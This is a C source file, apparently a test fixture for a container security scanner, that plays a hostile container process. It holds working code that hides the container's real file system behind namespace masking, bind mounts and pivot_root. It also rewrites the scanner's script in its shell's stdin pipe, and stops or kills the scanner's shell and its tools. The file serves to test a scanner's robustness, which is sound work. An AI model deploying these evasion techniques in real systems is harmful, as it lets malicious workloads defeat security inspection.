/* Copyright (c) 2026 securescan.kubernetes contributors
 * GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * two-faced WAY: the main process of a hostile container, which tries to show a scan the good file system below /clean
 * in place of its own. The ways:
 *
 *   honest        tries nothing
 *   forge         takes the scanner's script out of the pipe of its shell and puts a changed one back
 *   mask          makes a user namespace and a mount namespace, and mounts /clean/etc and others over its own
 *   mask-hidden   the same, and is not dumpable, so that others of its user cannot look into its namespaces
 *   bind          mounts /clean/etc over /etc; needs CAP_SYS_ADMIN
 *   pivot         makes /clean the root of its mount namespace; needs CAP_SYS_ADMIN
 *   stop          stops the scanner's shell for good
 *   stutter       stops the scanner's shell and lets it go on, again and again
 *   kill          kills the scanner's shell
 *   kill-tools    kills some of what the scanner's shell starts, with signals that a program can be ended by
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MOST (1 << 17)

static const char *const MASKED[] = {"etc", "bin", "sbin", "usr", "home", "root", "srv", "var", NULL};

static void end(int signal_number)
{
	(void)signal_number;
	_exit(0);
}

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static ssize_t read_file(const char *path, char *text, size_t most)
{
	int file = open(path, O_RDONLY);
	ssize_t size = file < 0 ? -1 : read(file, text, most);

	if (file >= 0)
		close(file);
	return size;
}

static void write_file(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);

	if (file < 0 || write(file, text, strlen(text)) < 0)
		fail(path);
	close(file);
}

static int parent_of(int pid)
{
	char path[64], text[512] = "", *after;
	int parent = -1;

	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	if (read_file(path, text, sizeof text - 1) > 0 && (after = strrchr(text, ')')))
		sscanf(after, ") %*c %d", &parent);
	return parent;
}

/* Whether a process is a shell that was let in by an exec, told by what everybody is shown of it. */
static int is_entered_shell(int pid)
{
	char path[64], text[64];

	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	return read_file(path, text, sizeof text) == 3 && memcmp(text, "sh", 3) == 0 && parent_of(pid) == 0;
}

/* The next process that `wanted` picks and that was not seen before; waits for it. */
static int next_process(int (*wanted)(int))
{
	static char seen[1 << 22];

	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;

		while (processes && (entry = readdir(processes))) {
			int pid = atoi(entry->d_name);

			if (pid > 1 && pid < (int)sizeof seen && pid != getpid() && !seen[pid] && wanted(pid)) {
				seen[pid] = 1;
				closedir(processes);
				return pid;
			}
		}
		if (processes)
			closedir(processes);
		usleep(300);
	}
}

/* What comes out of a pipe until nothing more has come for half a second. */
static size_t drain(int pipe, char *text)
{
	size_t size = 0;
	int quiet = 0;

	while (quiet < 100 && size < MOST) {
		ssize_t more = read(pipe, text + size, MOST - size);

		if (more > 0) {
			size += (size_t)more;
			quiet = 0;
		} else {
			usleep(5000);
			quiet++;
		}
	}
	return size;
}

static void put(int pipe, const char *text, size_t size)
{
	while (size > 0) {
		ssize_t sent = write(pipe, text, size);

		if (sent > 0) {
			text += sent;
			size -= (size_t)sent;
		} else {
			usleep(1000);
		}
	}
}

/* Replaces each `old` in a text that has room for it. */
static int replace(char *text, const char *old, const char *new)
{
	int times = 0;
	char *place = text;

	while ((place = strstr(place, old))) {
		memmove(place + strlen(new), place + strlen(old), strlen(place + strlen(old)) + 1);
		memcpy(place, new, strlen(new));
		place += strlen(new);
		times++;
	}
	return times;
}

/* Takes the script out of the pipe, has it enter /clean below the target's root, and puts it back. */
static void forge(int pid)
{
	static char script[2 * MOST];
	char path[64];
	int input;

	snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
	input = open(path, O_RDWR | O_NONBLOCK);
	if (input < 0) {
		printf("not forged: its standard input: %s\n", strerror(errno));
		return;
	}
	script[drain(input, script)] = 0;
	puts(replace(script, "/root; then", "/root/clean; then") ? "forged" : "not forged: it is another script");
	put(input, script, strlen(script));
	close(input);
}

static void mask(void)
{
	int uid = (int)getuid(), gid = (int)getgid();
	char text[64], from[64], to[64];

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		fail("unshare");
	write_file("/proc/self/setgroups", "deny");
	snprintf(text, sizeof text, "%d %d 1", uid, uid);
	write_file("/proc/self/uid_map", text);
	snprintf(text, sizeof text, "%d %d 1", gid, gid);
	write_file("/proc/self/gid_map", text);
	for (int index = 0; MASKED[index]; index++) {
		snprintf(from, sizeof from, "/clean/%s", MASKED[index]);
		snprintf(to, sizeof to, "/%s", MASKED[index]);
		if (mount(from, to, NULL, MS_BIND | MS_REC, NULL))
			fail(to);
	}
}

static void pivot(void)
{
	if (mount("/clean", "/clean", NULL, MS_BIND | MS_REC, NULL) || mount("/proc", "/clean/proc", NULL, MS_MOVE, NULL) ||
	    chdir("/clean") || syscall(SYS_pivot_root, ".", ".") || umount2(".", MNT_DETACH) || chdir("/"))
		fail("pivot_root");
}

static int is_started_by_shell(int pid)
{
	int parent = parent_of(pid);

	return parent > 1 && parent != getpid() && (is_entered_shell(parent) || is_entered_shell(parent_of(parent)));
}

static void attack_shells(const char *way)
{
	static const int SIGNALS[] = {SIGKILL, SIGTERM, SIGPIPE, SIGHUP};
	int turn = 0;

	for (;;) {
		if (!strcmp(way, "kill-tools")) {
			int tool = next_process(is_started_by_shell);

			if (rand() % 6 == 0)
				kill(tool, SIGNALS[turn++ % 4]);
			continue;
		}
		int pid = next_process(is_entered_shell);

		kill(pid, !strcmp(way, "kill") ? SIGKILL : SIGSTOP);
		if (!strcmp(way, "forge"))
			forge(pid);
		for (int turns = 0; !strcmp(way, "stutter") && turns < 200; turns++) {
			usleep(2000);
			kill(pid, SIGCONT);
			usleep(2000);
			kill(pid, SIGSTOP);
		}
		fflush(stdout);
		if (strcmp(way, "stop"))
			kill(pid, SIGCONT);
	}
}

int main(int argc, char **argv)
{
	const char *way = argc > 1 ? argv[1] : "honest";

	srand((unsigned)getpid() ^ (unsigned)time(NULL));
	signal(SIGTERM, end);
	signal(SIGINT, end);
	signal(SIGCHLD, SIG_IGN);
	if (!strncmp(way, "mask", 4))
		mask();
	if (!strcmp(way, "mask-hidden"))
		prctl(PR_SET_DUMPABLE, 0);
	if (!strcmp(way, "bind") && mount("/clean/etc", "/etc", NULL, MS_BIND, NULL))
		fail("mount");
	if (!strcmp(way, "pivot"))
		pivot();
	if (!strncmp(way, "mask", 4) || !strcmp(way, "honest") || !strcmp(way, "bind") || !strcmp(way, "pivot"))
		for (;;)
			pause();
	attack_shells(way);
}
